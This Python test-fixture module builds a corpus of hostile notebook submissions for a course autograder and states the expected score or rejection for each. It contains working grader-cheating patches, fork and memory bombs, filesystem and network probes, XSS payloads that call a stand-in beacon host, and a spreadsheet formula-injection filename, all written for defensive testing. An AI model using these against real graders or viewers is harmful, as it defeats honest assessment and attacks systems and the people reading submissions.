"""The hostile corpus: submissions that try to cheat, to break the grader, or are broken files.

Every :class:`Case` is a small patch over a submission of unit 1 (the reference solution, or the
blank student notebook) plus its expected outcome: graded with a score in ``score = (lo, hi)``
(and texts the feedback must or must not contain), or rejected with a reason containing
``rejected``. ``build(root)`` writes the corpus in the layout SUBMISSIONS/<student>/<assignment>/
(the student id is the case name); tests/test_hostile_corpus.py grades it in one run and checks
every expectation. Add a case whenever a new attack is found.

Unit 1 has 11 autograded points: u1_relu_grad 2, u1_dz_dw2 1, u1_dy_dw2 2, five values of 1,
u1_dead_choice 1 (and 2 manual points). A fault placed before ``dz_dw2 = "x2"`` in the answer cell
u1_dz_dw2 costs exactly that point (10 of 11), also when the kernel dies or hangs (a fresh kernel
re-runs the cells before it and grading goes on).
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]  # this checkout (not another one on the machine)
FULL = 11
MARKER = "NNKIT-HOSTILE"  # written by the isolation attacks (MARKER-<run>); must never appear
RUN = "NNKIT-RUN-ID"  # replaced by build(..., run=): names the processes of one grade run

# ---------------------------------------------------------------------------- cheating code
REFERENCE_PAYLOAD = '''
import workbook.checks as _wc
from workbook.exercise import encode as _enc

def _payload(ex, seed=None, hidden=False):
    if ex.kind == "function":
        return {"kind": "function",
                "results": [_enc(ex.expected(*c)) for c in ex.case_list(seed, hidden)]}
    if ex.kind == "choice":
        return {"kind": "choice", "answer": _enc(ex.expected)}
    v = ex.expected()
    return {"kind": ex.kind, "answer": _enc(v if ex.kind == "value" else str(v))}
'''
PATCH_FIND = REFERENCE_PAYLOAD + '''
_find = _wc.find
class _Fake:
    def __init__(self, ex):
        self.ex = ex
    def collect(self, ns, seed=None, hidden=False):
        return _payload(self.ex, seed, hidden)
_wc.find = lambda i: _Fake(_find(i))
'''
PATCH_EMIT = REFERENCE_PAYLOAD + '''
_emit = _wc.emit_answer
_wc.emit_answer = lambda i, p: _emit(i, _payload(_wc.find(i), _wc.grading_seed(), True))
'''
PATCH_COLLECT = REFERENCE_PAYLOAD + '''
import workbook.exercise as _we
_we.Exercise.collect = lambda self, ns, seed=None, hidden=False: _payload(self, seed, hidden)
'''
ALIAS_WORKBOOK = '''
from workbook.checks import find
relu_grad = find("u1_relu_grad").expected
z_cs1 = find("u1_z_cs1").expected()
w2_fate = find("u1_dead_choice").expected
'''
READ_ANSWER_KEY = '''
import glob, os
ns = {}
for path in glob.glob("/work/**/workbook/units/unit1.py", recursive=True)[:1]:
    exec(compile(open(path).read(), path, "exec"), ns)
relu_grad = ns.get("_relu_grad")
'''
PATCH_NUMPY = '''
import numpy as np, numpy.testing, math
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
'''
PATCH_BUILTINS = '''
import builtins
builtins.isinstance = lambda *a: True
builtins.len = lambda *a: 0
builtins.print = lambda *a, **k: None
'''
PATCH_TRACEBACK = '''
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
'''
CATCH_ALL = '''
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: print("✔ Correct."))
import sys
sys.excepthook = lambda *a: None
'''
REDEFINE_HELPERS = '''
def check(*a, **k):
    print("✔ Correct.")
def find(*a, **k):
    raise SystemExit
def collect(*a, **k):
    return {"kind": "value", "answer": {"t": "num", "v": 1.0}}
def emit_answer(*a, **k):
    pass
def grading_seed():
    return 0
'''
FAKE_PASS_TEXT = '''
def _say(*a, **k):
    print("✔ Correct. 2 / 2 points")
get_ipython().events.register("post_run_cell", _say)
print("✔ Correct.")
'''
FAKE_RECORDS = '''
from IPython.display import display
_MIME = "application/vnd.nnkit.answer+json"
def _fake(*a, **k):
    for i in ("u1_z_cs1", "u1_z_cs2", "u1_dead_choice", "u1_relu_grad"):
        display({_MIME: {"exercise": i, "payload": {"kind": "value",
                 "answer": {"t": "num", "v": -1.9}}}, "text/plain": "x"}, raw=True)
get_ipython().events.register("post_run_cell", _fake)
get_ipython().events.register("pre_run_cell", _fake)
'''
SUPPRESS_REAL_RECORD = '''
import IPython.display as _d
_real = _d.display
def _only_fake(obj=None, *a, **k):
    if isinstance(obj, dict) and "application/vnd.nnkit.answer+json" in obj:
        rec = obj["application/vnd.nnkit.answer+json"]
        obj = {"application/vnd.nnkit.answer+json": {"exercise": rec["exercise"],
               "payload": {"kind": "value", "answer": {"t": "num", "v": -1.9}}}}
    return _real(obj, *a, **k)
_d.display = _only_fake
'''
SEED_AND_CASES = '''
import os
print("SEED-SEEN:", [k for k in os.environ if "SEED" in k or "NNKIT" in k])
'''
NNKIT_ALIAS = '''
import numpy as np
from nnkit.activations import get_activation


def relu_grad(z):
    return get_activation("relu").grad(np.asarray(z, dtype=float))
'''
NNKIT_ALIAS_HIDDEN = '''
import numpy as np
_m = getattr(__import__("nn" + "kit.acti" + "vations", fromlist=["x"]), "get_" + "activation")


def relu_grad(z):
    return _m("relu").grad(np.asarray(z, dtype=float))
'''
NNKIT_INDIRECT_HELPER = '''
from nnkit.activations import get_activation as _g


def _helper(z):
    return _g("relu").grad(np.asarray(z, dtype=float))
'''
NNKIT_INDIRECT = '''
import numpy as np


def relu_grad(z):
    return _helper(z)
'''
REFERENCE_CALL = '''
from workbook.reference.relu_neuron import chain_rule


def dy_dw2(w1, w2, x1, x2):
    return chain_rule(w1, w2, x1, x2)[2]
'''
REFERENCE_INDIRECT_HELPER = '''
from workbook.reference import relu_neuron as _course


def _helper(w1, w2, x1, x2):
    return _course.chain_rule(w1, w2, x1, x2)[2]
'''
REFERENCE_INDIRECT = '''
def dy_dw2(w1, w2, x1, x2):
    return _helper(w1, w2, x1, x2)
'''

# the reference reached without an import the screen sees (issue 23): through an object an
# instructor's cell imported, a module's name in pkgutil's "module:attribute" form, a thread
# the tripwire did not watch, a tripwire switched off, a value computed in another cell
REFERENCE_GETMODULE = {  # the module of the view the instructor's cell imported
    "u1_z_cs1": "import inspect\n_m = inspect.getmodule(ReluNeuronView)\n"
                "z_cs1 = _m.forward(**_m.STATES[1])[0]",
    "u1_dy_dw2_cs1": "dy_dw2_cs1 = _m.chain_rule(**_m.STATES[1])[2]",
    "u1_z_cs2": "z_cs2 = _m.forward(**_m.STATES[2])[0]",
    "u1_dy_dw2_cs2": "dy_dw2_cs2 = _m.chain_rule(**_m.STATES[2])[2]",
    "u1_w2_next_cs2": "w2_next_cs2 = _m.STATES[2]['w2'] - 0.01 * _m.chain_rule(**_m.STATES[2])[2]",
}
REFERENCE_RESOLVE = {
    "u1_z_cs1": "import pkgutil\n"
                '_forward = pkgutil.resolve_name("workbook.reference.relu_neuron:forward")\n'
                "z_cs1 = _forward(0.1, -0.1, 1.0, 20.0)[0]",
    "u1_dy_dw2_cs2": '_chain = pkgutil.resolve_name("workbook.reference.relu_neuron:chain_rule")\n'
                     "dy_dw2_cs2 = _chain(0.1, -0.1, 20.0, 10.0)[2]",
}
REFERENCE_THREAD = {
    "u1_relu_grad": '''
import pkgutil
import threading

import numpy as np

_act = pkgutil.resolve_name("nnkit.activations:get_activation")


def _in_thread(f, *args):
    out = []
    thread = threading.Thread(target=lambda: out.append(f(*args)))
    thread.start()
    thread.join()
    return out[0]


def relu_grad(z):
    return _in_thread(lambda: _act("relu").grad(np.asarray(z, dtype=float)))
''',
    "u1_dy_dw2": '''
_chain = pkgutil.resolve_name("workbook.reference.relu_neuron:chain_rule")


def dy_dw2(w1, w2, x1, x2):
    return _in_thread(_chain, w1, w2, x1, x2)[2]
''',
}
REFERENCE_UNTRIP = '''
import pkgutil
import sys

import numpy as np


def relu_grad(z):
    getattr(sys, "".join(["set", "profile"]))(None)  # the tripwire's profiler, off
    act = pkgutil.resolve_name("nnkit.activations:get_activation")("relu")
    return act.grad(np.asarray(z, dtype=float))
'''
REFERENCE_ELSEWHERE = '''
from workbook.reference import relu_neuron as _course
_factors = _course.chain_rule(**_course.STATES[1])
'''

# ---------------------------------------------------------------------------- faults
DZ = '\ndz_dw2 = "x2"\n'  # the answer of u1_dz_dw2, after the fault
INFINITE_LOOP = "while True:\n    pass"
UNINTERRUPTIBLE = ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                   "while True:\n    pass")
SLEEP = "import time\ntime.sleep(600)"
MEMORY_BOMB = "hog = []\nwhile True:\n    hog.append(bytearray(50 * 1024 * 1024))"
FORK_BOMB = '''
import os, time
try:
    while True:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
except OSError:
    pass
'''
BACKGROUND = '''
import subprocess, threading, time, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "NNKIT-RUN-ID"],
                 start_new_session=True)
def _spam():
    while True:
        print("✔ Correct.")
        time.sleep(0.05)
threading.Thread(target=_spam, daemon=True).start()
'''
SYS_EXIT = "import sys\nsys.exit(1)"
OS_EXIT = "import os\nos._exit(1)"
SEGFAULT = "import ctypes\nctypes.string_at(0)"
RECURSION = "def f(n):\n    return f(n + 1)\nf(0)"
STACK_OVERFLOW = ("import sys\nsys.setrecursionlimit(10**7)\n"
                  "def f(n):\n    return f(n + 1) + 1\nf(0)")
HUGE_OUTPUT = "import sys\nfor _ in range(40):\n    sys.stdout.write('x' * 5_000_000)\n"
HUGE_VALUE = "import numpy as np\nz_cs1 = np.zeros(10**8)"
# 26 nested derivatives (261 characters): evaluated eagerly, the grader's process stalled for
# good (10 levels 6 s, 16 levels 90 s); the class with it
NESTED_DIFF = 'dz_dw2 = "' + "diff(" * 26 + "exp(sin(x1)*x2)*tanh(x1*w1)" + ", x1)" * 26 + '"\n'
BIG_PRINT = "import sys\nsys.stdout.write('x' * 1_900_000)\n"  # just under the cap of a cell


def _prefix_answers(text):
    """Every answer cell starts with ``text`` (then the student's answer as before)."""
    def mutate(nb):
        for cell in nb["cells"]:
            if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {}).get(
                    "solution"):
                cell["source"] = text + "".join(cell["source"])
    return mutate

# ---------------------------------------------------------------------------- isolation
# The attacks look everywhere a student could guess, but (to be safe when isolation is not
# enforced) only touch files whose path contains "hostile-corpus" (the test's own folder).
_FIND = '''
import glob, os
def _candidates(patterns):
    roots = ["/tmp/pytest-of-*/pytest-*/hostile-corpus*",
             "/tmp/pytest-of-*/pytest-*/*/hostile-corpus*"]
    up = os.getcwd()
    for _ in range(6):
        up = os.path.dirname(up)
        if up.count("/") > 1:  # not / or /tmp themselves (too much to search)
            roots.append(up)
    seen = set()
    for root in roots:
        for pattern in patterns:
            for path in glob.glob(os.path.join(root, "**", pattern), recursive=True):
                if "hostile-corpus" in path and path not in seen:
                    seen.add(path)
                    yield path
'''
SNOOP = _FIND + '''
found = []
for path in _candidates(["*.ipynb", "gradebook.db", "seed", "*.json"]):
    try:
        with open(path, "rb") as f:
            f.read(10)
        found.append(path)
    except OSError:
        pass
print("READABLE:", len(found), sorted(found)[:5])
'''
WRITE_OUT = _FIND + '''
written = []
targets = list(_candidates(["gradebook.db", "*.ipynb"]))
targets += [os.path.join(os.path.dirname(p), "{m}") for p in list(targets)]
targets += [os.path.join({root!r}, "{m}"), os.path.expanduser("~/{m}")]
for path in targets:
    if os.path.dirname(path) == os.getcwd():
        continue
    try:
        with open(path, "a") as f:
            f.write("{m}")
        written.append(path)
    except OSError:
        pass
print("WRITTEN:", len(written), written[:5])
'''.replace("{m}", f"{MARKER}-{RUN}").replace("{root!r}", repr(str(ROOT)))
ANSWER_FILES = '''
import os, re
found, dirs = [], 0
for top, subdirs, files in os.walk("/"):
    if top in ("/proc", "/sys", "/dev", "/usr", "/etc") or re.search(
            r"/(site|dist)-packages$|/lib/python3[.0-9]*$", top):
        subdirs[:] = []  # the system, the kernel's own files and the installed libraries
        continue
    dirs += 1
    for name in files:
        path = os.path.join(top, name)
        try:
            if os.path.getsize(path) < 1_000_000:
                with open(path, "rb") as f:
                    if b"z_cs1" in f.read():
                        found.append(path)
        except OSError:
            pass
print("ANSWER-FILES:", len(found), "DIRS:", dirs > 10, sorted(found)[:5])
'''
DEV_SHM = '''
written, why = 0, ""
for i in range(20):  # 1 GB in 50 MB files: RAM the kernel's memory limit does not count
    try:
        with open(f"/dev/shm/hog{i}", "wb") as f:
            f.write(b"x" * 50_000_000)
        written += 50_000_000
    except OSError as err:
        why = err.strerror
        break
try:
    open("/dev/hog", "wb").close()
    dev = "/dev writable"
except OSError:
    dev = ""
print("SHM-" + ("BOUNDED" if written <= 16 * 2**20 and not dev else "UNBOUNDED"), written, why, dev)
'''
NETWORK = '''
import socket
try:
    socket.create_connection(("1.1.1.1", 443), timeout=2)
    print("NETWORK: open")
except OSError:
    print("NETWORK: blocked")
'''


# ---------------------------------------------------------------------------- script for the reader
# Student content that would run as script where a person opens it (formgrader, the feedback):
# each payload records its kind in window.xssRan and requests BEACON/<kind> (tests/test_inert.py
# replaces BEACON by a listener of its own; here it stays a name that does not resolve).
BEACON = "http://beacon.invalid"


def js(kind):
    """Script (no double quotes: usable in an attribute) that records ``kind`` and calls home."""
    return (f"(window.xssRan=window.xssRan||[]).push('{kind}');"
            f"fetch('{BEACON}/{kind}',{{mode:'no-cors'}})")


SCRIPT_MARKDOWN = f"""My answer: w2 stays where it is <script>{js("md-script")}</script>
<img src=x onerror="{js('md-img')}"> <svg onload="{js('md-svg')}"></svg>
<iframe src="javascript:{js('md-iframe')}"></iframe> <details open ontoggle="{js('md-details')}">
<summary>more</summary></details> <style>@import url({BEACON}/md-style);</style>
<object data="{BEACON}/md-object"></object>
<form action="{BEACON}/md-form"><button>x</button></form>

![pixel]({BEACON}/md-pixel) [a link](javascript:{js("md-link")})
"""
SCRIPT_OUTPUTS = f"""
from IPython.display import HTML, Javascript, display
display(HTML('''<img src=x onerror="{js('html-img')}"><script>{js('html-script')}</script>'''))
display(Javascript('''{js('javascript')}'''))
display({{"image/svg+xml": '''<svg xmlns="http://www.w3.org/2000/svg"><script>{js('svg')}</script>
<image href="{BEACON}/svg-image"/></svg>''', "text/plain": "svg"}}, raw=True)
display({{"text/markdown": '''<img src=x onerror="{js('markdown-output')}">''',
         "text/plain": "markdown"}}, raw=True)
display({{"text/latex": '''$x$</div><script>{js('latex')}</script>''', "text/plain": "latex"}},
        raw=True)
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "w1", "version_major": 2,
          "version_minor": 0}}, "text/plain": "widget"}}, raw=True)
display({{"text/html": '''<img src="{BEACON}/html-pixel"><a href="javascript:{js('html-link')}">
link</a>''', "text/plain": "pixel"}}, raw=True)
display({{"image/png": "iVBORw0KGgo=", "text/plain": "png"}}, raw=True,
        metadata={{"filenames": {{"image/png": "{BEACON}/png-file"}}}})
"""


def _script_cells(nb):
    """A raw HTML cell, hostile cell tags and widget state beside the markdown payload."""
    i, _ = _cell(nb, "u1_dead_explain")
    nb["cells"].insert(i, {"cell_type": "raw", "id": "raw-html", "source":
                           f"<script>{js('raw')}</script>",
                           "metadata": {"format": "text/html", "raw_mimetype": "text/html"}})
    nb["cells"][i + 1]["metadata"]["tags"] = [  # no comma: nbformat's rule for a tag
        '"><img src=x onerror="(window.xssRan=window.xssRan||[]).push(`tag`)">']
    nb["cells"][i + 1]["source"] = SCRIPT_MARKDOWN
    nb["metadata"]["title"] = f"</title><script>{js('title')}</script>"
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {"w1": {
            "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
            "model_module_version": "2.0.0", "state": {
                "value": f'<img src=x onerror="{js("widget")}">'}}}}}


#: live markup of the payloads: never in a feedback file (their text, escaped, is)
LIVE = ("<script>(window.xssRan", "<img src=x onerror", f'<img src="{BEACON}', "<svg", "<iframe",
        '<a href="javascript:', 'ontoggle="', "<object", "<form action", "<style>@import",
        "var element = $(", "widget-state+json")


# ---------------------------------------------------------------------------- the cases
@dataclass
class Case:
    name: str  # the student id
    what: str
    base: str = "reference"  # or "blank"
    cells: dict = field(default_factory=dict)  # answer grade id -> new source
    before: dict = field(default_factory=dict)  # grade id -> a new code cell inserted before it
    mutate: Callable | None = None  # nb dict -> None
    raw: Callable | None = None  # notebook bytes -> bytes
    files: dict = field(default_factory=dict)  # extra file name -> bytes ("" keeps no notebook)
    notebook_name: str | None = None
    views: bool = False  # keep the interactive views (slower)
    lang: str = "en"
    unit_of: str | None = None  # build the notebook of another unit module
    score: tuple | None = None  # (lo, hi) of the grades.csv score
    rejected: str | None = None  # substring of the reason in rejected.csv
    feedback: tuple = ()  # substrings the feedback must contain
    not_in_feedback: tuple = ()


def _cell(nb, grade_id):
    for i, c in enumerate(nb["cells"]):
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return i, c
    raise KeyError(grade_id)


def _set(grade_id, key, value):
    def mutate(nb):
        _cell(nb, grade_id)[1]["metadata"]["nbgrader"][key] = value
    return mutate


def _drop(grade_id):
    def mutate(nb):
        del nb["cells"][_cell(nb, grade_id)[0]]
    return mutate


def _duplicate(grade_id):
    def mutate(nb):
        i, c = _cell(nb, grade_id)
        nb["cells"].insert(i, json.loads(json.dumps(c)))
    return mutate


def _source(grade_id, text):
    def mutate(nb):
        _cell(nb, grade_id)[1]["source"] = text
    return mutate


def _to_markdown(grade_id):
    def mutate(nb):
        c = _cell(nb, grade_id)[1]
        c["cell_type"] = "markdown"
        c.pop("outputs", None)
        c.pop("execution_count", None)
    return mutate


def _nbformat3(nb):
    nb["nbformat"] = 3


def _other_lang_meta(nb):
    nb["metadata"]["nnkit"]["lang"] = "de"


NO_POINTS = (0, 0)
LOST_DZ = (FULL - 1, FULL - 1)  # only u1_dz_dw2 lost
# the kernel died in u1_dz_dw2: a fresh kernel re-ran the cells before it, the rest is graded

CASES = [
    # -- the baselines
    Case("ok_reference", "the reference solution (with the views)", score=(FULL, FULL),
         views=True),
    Case("ok_reference_de", "the reference solution, German", lang="de", score=(FULL, FULL)),
    Case("ok_blank", "the blank student notebook", base="blank", score=NO_POINTS),
    # -- cheating: every one on the blank notebook must earn nothing
    Case("cheat_patch_find", "workbook.checks.find returns a fake collector", base="blank",
         cells={"u1_relu_grad": PATCH_FIND}, score=NO_POINTS),
    Case("cheat_patch_emit", "emit_answer replaced by one that emits the reference payload",
         base="blank", cells={"u1_relu_grad": PATCH_EMIT}, score=NO_POINTS),
    Case("cheat_patch_collect", "Exercise.collect returns the reference payload", base="blank",
         cells={"u1_relu_grad": PATCH_COLLECT}, score=NO_POINTS),
    Case("cheat_alias_workbook", "answers taken from workbook's exercise definitions",
         base="blank", cells={"u1_relu_grad": ALIAS_WORKBOOK}, score=NO_POINTS),
    Case("cheat_read_answer_key", "exec() of the unit source file found on disk", base="blank",
         cells={"u1_relu_grad": READ_ANSWER_KEY}, score=NO_POINTS),
    Case("cheat_patch_numpy", "numpy, numpy.testing and math comparisons always true",
         base="blank", cells={"u1_relu_grad": PATCH_NUMPY}, score=NO_POINTS),
    Case("cheat_patch_builtins", "builtins isinstance/len/print replaced", base="blank",
         cells={"u1_relu_grad": PATCH_BUILTINS}, score=NO_POINTS),
    Case("cheat_traceback", "IPython's traceback display silenced (nbgrader #1324)",
         base="blank", cells={"u1_relu_grad": PATCH_TRACEBACK}, score=NO_POINTS),
    Case("cheat_catch_all", "every exception caught by a custom handler that prints a pass",
         base="blank", cells={"u1_relu_grad": CATCH_ALL}, score=NO_POINTS),
    Case("cheat_redefine_helpers", "check, find, collect, emit_answer redefined",
         base="blank", cells={"u1_relu_grad": REDEFINE_HELPERS}, score=NO_POINTS),
    Case("cheat_fake_pass_text", "prints '✔ Correct.' after every cell", base="blank",
         cells={"u1_relu_grad": FAKE_PASS_TEXT}, score=NO_POINTS),
    Case("cheat_fake_records", "emits fake answer records before and after every cell",
         base="blank", cells={"u1_relu_grad": FAKE_RECORDS}, score=NO_POINTS),
    Case("cheat_swap_record", "display() replaced: the real record is swapped for a fake",
         base="blank", cells={"u1_relu_grad": SUPPRESS_REAL_RECORD}, score=NO_POINTS),
    Case("cheat_edit_test_cells", "test cell sources replaced by a printed pass", base="blank",
         mutate=lambda nb: [_source(g, 'print("✔ Correct.")')(nb) for g in
                            ("u1_relu_grad_check", "u1_z_cs1_check", "u1_dead_choice_check")],
         score=NO_POINTS),
    Case("cheat_points_metadata", "a test cell claims 100 points", score=(FULL, FULL),
         mutate=_set("u1_relu_grad_check", "points", 100)),
    Case("cheat_answer_cell_graded", "an answer cell marked as an autograded test cell",
         base="blank", mutate=lambda nb: [_set("u1_z_cs1", "grade", True)(nb),
                                          _set("u1_z_cs1", "points", 50)(nb)],
         rejected="grading metadata changed"),
    Case("cheat_test_cell_markdown", "a test cell turned into markdown (nbgrader restores it: "
         "graded, no point)", base="blank", mutate=_to_markdown("u1_relu_grad_check"),
         score=NO_POINTS),
    Case("cheat_test_cell_solution", "a test cell marked as a solution (editable)",
         mutate=_set("u1_relu_grad_check", "solution", True),
         rejected="grading metadata changed"),
    Case("cheat_nnkit_alias", "relu_grad calls nnkit's reference activation",
         cells={"u1_relu_grad": NNKIT_ALIAS}, score=(0, FULL - 2),
         feedback=("nnkit",)),
    Case("cheat_nnkit_hidden_import", "nnkit reached through __import__ and getattr strings",
         cells={"u1_relu_grad": NNKIT_ALIAS_HIDDEN}, score=(0, FULL - 2),
         feedback=("nnkit",)),
    Case("cheat_nnkit_indirect", "nnkit called from a helper in an added cell (the grading "
         "edition refuses it)",
         cells={"u1_relu_grad": NNKIT_INDIRECT}, before={"u1_relu_grad": NNKIT_INDIRECT_HELPER},
         score=(FULL - 2, FULL - 2), feedback=("nnkit",)),
    Case("cheat_reference_call", "dy_dw2 returns the reference's chain rule (workbook.reference)",
         cells={"u1_dy_dw2": REFERENCE_CALL}, score=(FULL - 2, FULL - 2), feedback=("nnkit",)),
    Case("cheat_reference_indirect", "the reference called from a helper in an added cell "
         "(the grading edition refuses it)", cells={"u1_dy_dw2": REFERENCE_INDIRECT},
         before={"u1_dy_dw2": REFERENCE_INDIRECT_HELPER}, score=(FULL - 2, FULL - 2),
         feedback=("nnkit",)),
    Case("cheat_reference_getmodule", "five values from the module of a view class the "
         "instructor imported (inspect.getmodule)", base="blank", views=True,
         cells=REFERENCE_GETMODULE, score=NO_POINTS, feedback=("nnkit",)),
    Case("cheat_reference_resolve_name", "values from pkgutil.resolve_name('module:name')",
         base="blank", cells=REFERENCE_RESOLVE, score=NO_POINTS, feedback=("nnkit",)),
    Case("cheat_reference_thread", "functions that call the reference in a thread",
         base="blank", cells=REFERENCE_THREAD, score=NO_POINTS, feedback=("nnkit",)),
    Case("cheat_reference_untrip", "the function switches the tripwire's profiler off",
         base="blank", cells={"u1_relu_grad": REFERENCE_UNTRIP}, score=NO_POINTS,
         feedback=("nnkit",)),
    Case("cheat_reference_elsewhere", "a value computed by the reference in an added cell",
         base="blank", before={"u1_dy_dw2_cs1": REFERENCE_ELSEWHERE},
         cells={"u1_dy_dw2_cs1": "dy_dw2_cs1 = _factors[2]"}, score=NO_POINTS),
    Case("leak_seed", "prints the grading seed from the environment", score=(FULL, FULL),
         before={"u1_dz_dw2": SEED_AND_CASES}, feedback=("SEED-SEEN: []",)),
    # -- faults: the affected answer scores zero, the rest of the notebook is graded
    Case("fault_infinite_loop", "while True: pass", cells={"u1_dz_dw2": INFINITE_LOOP + DZ},
         score=LOST_DZ),
    Case("fault_sleep", "time.sleep(600)", cells={"u1_dz_dw2": SLEEP + DZ}, score=LOST_DZ),
    Case("fault_uninterruptible", "SIGINT ignored, then an endless loop: the kernel is killed",
         cells={"u1_dz_dw2": UNINTERRUPTIBLE + DZ}, score=LOST_DZ,
         feedback=("time limit",)),
    Case("fault_memory_bomb", "allocates until the memory limit", score=LOST_DZ,
         cells={"u1_dz_dw2": MEMORY_BOMB + DZ}),
    Case("fault_fork_bomb", "forks until the process limit, children sleep",
         score=(LOST_DZ[0], FULL),
         cells={"u1_dz_dw2": FORK_BOMB + DZ}),
    Case("fault_background", "a detached process and a thread printing passes", score=LOST_DZ,
         cells={"u1_dz_dw2": BACKGROUND + 'raise ValueError("no answer")' + DZ}),
    Case("fault_sys_exit", "sys.exit(1)", cells={"u1_dz_dw2": SYS_EXIT + DZ}, score=LOST_DZ),
    Case("fault_os_exit", "os._exit(1): the kernel dies", score=LOST_DZ,
         cells={"u1_dz_dw2": OS_EXIT + DZ}, feedback=("kernel died",)),
    Case("fault_segfault", "ctypes.string_at(0): the kernel crashes", score=LOST_DZ,
         cells={"u1_dz_dw2": SEGFAULT + DZ}, feedback=("kernel died",)),
    Case("fault_recursion", "endless recursion (RecursionError)", score=LOST_DZ,
         cells={"u1_dz_dw2": RECURSION + DZ}),
    Case("fault_stack_overflow", "recursion limit raised: the C stack overflows",
         cells={"u1_dz_dw2": STACK_OVERFLOW + DZ}, score=LOST_DZ),
    Case("fault_huge_output", "200 MB printed", cells={"u1_dz_dw2": HUGE_OUTPUT + "1/0" + DZ},
         score=LOST_DZ),
    Case("fault_huge_value", "an answer of 10^8 numbers", cells={"u1_z_cs1": HUGE_VALUE},
         score=(FULL - 1, FULL - 1)),
    Case("fault_nested_derivatives", "26 nested diff(...) in an expression answer",
         cells={"u1_dz_dw2": NESTED_DIFF}, score=LOST_DZ,
         feedback=("more than 8 derivatives",)),
    Case("fault_notebook_output", "every answer cell prints 1.9 MB (the notebook's budget: 10 MB)",
         mutate=_prefix_answers(BIG_PRINT), score=(0, FULL - 1),
         feedback=("exceeded its output budget",)),
    # -- isolation: nothing outside the scratch directory is readable or writable
    Case("iso_snoop", "reads other submissions, the gradebook and the seed", score=(FULL, FULL),
         before={"u1_dz_dw2": SNOOP}, feedback=("READABLE: 0",)),
    Case("iso_write", "writes into the course, the gradebook, other submissions",
         score=(FULL, FULL),
         before={"u1_dz_dw2": WRITE_OUT}, feedback=("WRITTEN: 0",)),
    Case("iso_answer_files", "walks every readable directory for files that name an answer "
         "(tests, docs, unit sources of this repository)", score=(FULL, FULL),
         before={"u1_dz_dw2": ANSWER_FILES}, feedback=("ANSWER-FILES: 0 DIRS: True",)),
    Case("iso_dev_shm", "writes 1 GB into /dev/shm and a file into /dev (RAM outside the "
         "memory limit)", score=(FULL, FULL), before={"u1_dz_dw2": DEV_SHM},
         feedback=("SHM-BOUNDED",)),
    Case("iso_network", "connects to the internet (to fetch the answer key)",
         score=(FULL, FULL), before={"u1_dz_dw2": NETWORK}, feedback=("NETWORK: blocked",)),
    # -- script for the reader: graded as usual, nothing of it runs where a person opens it
    Case("script_markdown", "the written answer, a raw cell, cell tags and the notebook's "
         "metadata carry script and event handlers", mutate=_script_cells, score=(FULL, FULL),
         feedback=("My answer: w2 stays", "&lt;script&gt;"), not_in_feedback=LIVE),
    Case("script_outputs", "an answer cell displays HTML, JavaScript, SVG, markdown, LaTeX and a "
         "widget view carrying script", score=(FULL, FULL),
         before={"u1_dz_dw2": SCRIPT_OUTPUTS}, not_in_feedback=LIVE),
    # -- broken files: rejected with a reason (rest of the class graded)
    Case("bad_json", "not JSON", raw=lambda b: b[: len(b) // 2], rejected="invalid JSON"),
    Case("bad_json_bomb", "deeply nested JSON", raw=lambda b: b"[" * 100_000 + b"]" * 100_000,
         rejected="invalid JSON"),
    Case("bad_not_notebook", "a JSON list", raw=lambda b: b"[1, 2, 3]", rejected="not a notebook"),
    Case("bad_nbformat3", "nbformat 3", mutate=_nbformat3, rejected="wrong nbformat"),
    Case("bad_latin1", "not UTF-8",
         raw=lambda b: b.replace(b"dz_dw2", "dz_dw2²".encode("latin-1"), 1),
         rejected="not UTF-8"),
    Case("bad_renamed", "notebook renamed", notebook_name="my_solution",
         rejected="unknown notebook name"),
    Case("bad_formula_name", "a file named like a spreadsheet formula (rejected.csv neutralises "
         "it)", notebook_name="=1+41+cmd|' -C calc'!A0", rejected="unknown notebook name"),
    Case("bad_missing", "no notebook, only a text file", files={"answers.txt": b"42"},
         notebook_name="", rejected="not a notebook"),
    Case("bad_extra_file", "an extra file next to the notebook", score=(FULL, FULL),
         files={"notes.txt": b"hello"}, rejected="not a notebook (ignored)"),
    Case("bad_removed_test", "a test cell deleted", mutate=_drop("u1_relu_grad_check"),
         rejected="removed grade ids"),
    Case("bad_duplicated_id", "an answer cell duplicated", mutate=_duplicate("u1_z_cs1"),
         rejected="duplicated grade ids"),
    Case("bad_renamed_id", "a grade id renamed", mutate=_set("u1_z_cs1", "grade_id", "u1_zz"),
         rejected="removed grade ids"),
    Case("bad_other_unit", "the notebook of unit 2 under unit 1", unit_of="unit2",
         rejected="another unit"),
    Case("bad_other_lang", "the German notebook in the English assignment", mutate=_other_lang_meta,
         rejected="another unit/language"),
]

BIG_CASE = Case("bad_100mb", "a 100 MB notebook (made by the test)", rejected="too large")


# ---------------------------------------------------------------------------- building
SOLUTION = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION[ \t]*\n", re.M)
HIDDEN = re.compile(r"[ \t]*### BEGIN HIDDEN TESTS.*?### END HIDDEN TESTS[ \t]*\n?", re.S)


def _module(name):
    import importlib

    return importlib.import_module(f"workbook.units.{name}")


def base_notebook(kind, unit="unit1", lang="en", views=False):
    """The notebook dict a student would submit: nbgrader's release with either the reference
    answers (solution markers removed) or the stubs left as they are (blank). Without
    ``views`` the interactive views (ungraded cells) are left out: grading is twice as fast."""
    import nbformat

    from workbook.build import source_notebook

    nb = json.loads(nbformat.writes(source_notebook(_module(unit), lang)))
    if not views:
        nb["cells"] = [c for c in nb["cells"] if c["cell_type"] != "code"
                       or c.get("metadata", {}).get("nbgrader")]
    for cell in nb["cells"]:
